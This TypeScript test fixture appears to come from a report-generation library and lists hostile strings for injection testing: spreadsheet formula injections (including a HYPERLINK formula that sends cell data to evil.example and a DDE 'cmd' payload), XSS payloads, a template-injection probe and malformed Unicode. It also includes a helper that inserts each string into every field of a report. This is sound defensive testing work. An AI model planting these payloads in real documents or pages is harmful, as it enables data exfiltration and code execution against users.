import type { ReportResult } from '@gouji/core';
import { CONSISTENT, makeReport } from './make-result.ts';

/** What a document may smuggle into a spreadsheet, a page or a letter. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3+cmd|x',
  '\t=1+1',
  ' =1+1',
  '＝1＋1',
  'a\r\n=1+1,"b"',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  ']]></a>&lt;b&gt;',
  '_x000D_ _x003D_1',
  '\u202e1+1=\u202c',
  'half \ud83d of a pair, \u0000 \u0007 \ufffe',
  'javascript:alert(1)',
  'https://evil.example/',
  '{{7*7}}',
];

/** A report that says the text wherever a document can say something. */
export function hostileReport(text: string): ReportResult {
  const made = makeReport({
    numbers: CONSISTENT,
    others: { 'applications.granted.total': { state: 'unreadable', text } },
    findings: [
      { rule: 'structure/title', severity: 'warning', category: 'form', message: text, quote: text },
      { rule: 'cell/number', category: 'arithmetic', message: text, cells: ['applications.granted.total'] },
    ],
    open: [{ rule: 'table/shape', reason: 'odd', message: text, cells: [] }],
  });
  return {
    ...made,
    source: text,
    report: { ...made.report!, title: text, organization: text, publishedOn: text },
  };
}
